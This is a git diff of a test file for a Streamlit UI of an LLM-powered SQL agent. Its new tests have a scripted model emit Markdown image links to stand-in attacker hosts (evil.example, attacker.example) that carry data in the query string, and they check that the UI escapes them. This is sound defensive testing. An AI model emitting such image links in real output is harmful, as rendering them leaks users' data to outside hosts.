@@ -15,7 +15,7 @@ from streamlit.testing.v1 import AppTest
 from sqlagent.errors import LLMUnavailable
 from sqlagent.store.history import HistoryStore
 from sqlagent.testing import ScriptedLLM
-from ui.format import shown_text
+from ui.format import escape_markdown, shown_text
 
 REPO = Path(__file__).resolve().parents[2]
 APP = REPO / "ui" / "app.py"
@@ -115,7 +115,7 @@ def test_ask_shows_narrative_table_chart_and_sql(knowledge: Path) -> None:
     assert "merchants" in at.code[0].value and "GROUP BY" in at.code[0].value
     assert "**Tables:** `merchants`" in page
     assert "**Tokens:**" in page
-    assert [b.label for b in at.download_button] == ["CSV", "Parquet"]
+    assert [b.label for b in at.download_button] == ["CSV", "Excel", "Parquet"]
     # The model was asked once for SQL and once to narrate.
     assert len(llm.calls) == 2 and llm.calls[1].streamed
 
@@ -153,7 +153,60 @@ def test_progress_is_reported_while_answering(knowledge: Path) -> None:
         assert step in page
 
 
+def test_the_narration_streams_checked_after_the_table(
+    knowledge: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """st.write_stream gets the narration in escaped pieces, none holding the ungrounded
+    image; the SQL and table are drawn before its first piece."""
+    import streamlit as st
+
+    narration = (
+        "There are 9 merchants in Phoenix. "
+        "![x](https://evil.example/p.png?d=Camelback) The first is Camelback Coffee Roasters. "
+        "That is all."
+    )
+    seen: list[tuple[str, int]] = []
+    original = st.write_stream
+    tables: list[int] = []
+    original_dataframe = st.delta_generator.DeltaGenerator.dataframe
+
+    def dataframe(self: Any, *args: Any, **kwargs: Any) -> Any:
+        tables.append(len(seen))
+        return original_dataframe(self, *args, **kwargs)
+
+    def recording(stream: Any, **kwargs: Any) -> Any:
+        def tee() -> Iterator[str]:
+            for chunk in stream:
+                seen.append((chunk, len(tables)))
+                yield chunk
+
+        return original(tee(), **kwargs)
+
+    monkeypatch.setattr(st, "write_stream", recording)
+    monkeypatch.setattr(st.delta_generator.DeltaGenerator, "dataframe", dataframe)
+    llm = ScriptedLLM([PHOENIX_SQL, narration])
+    at = ask(start(llm), "Which merchants are in Phoenix?")
+    chunks = [chunk for chunk, _ in seen]
+    assert len(chunks) >= 2
+    assert all("evil" not in chunk and "!\\[" not in chunk for chunk in chunks)
+    assert seen[0][1] >= 1  # the table was drawn before the first piece of narration
+    final = at.session_state["turns"][0].answer.narrative
+    assert shown_text("".join(chunks)) == final
+    assert "evil" not in texts(at) and "That is all." in texts(at)
+    assert len(at.dataframe) == 1  # the preview is gone: the answer below holds the table
+
+
 # --------------------------------------------------------------------------- failures
+
+
+def test_a_metric_label_from_the_model_shows_as_text(knowledge: Path) -> None:
+    """A metric's label is Markdown; the alias the model wrote is shown, not rendered."""
+    alias = "![x](https://attacker.example/p?d=1) :red[alarm] <b>total</b>"
+    sql = f'SELECT COUNT(*) AS "{alias}" FROM merchants'
+    at = ask(start(ScriptedLLM([sql, "There are many merchants."])), "How many merchants?")
+    [metric] = at.metric
+    assert shown_text(metric.label) == alias
+    assert metric.label == escape_markdown(alias) != alias
 
 
 def test_refused_sql_is_a_readable_error_with_the_sql(knowledge: Path) -> None:
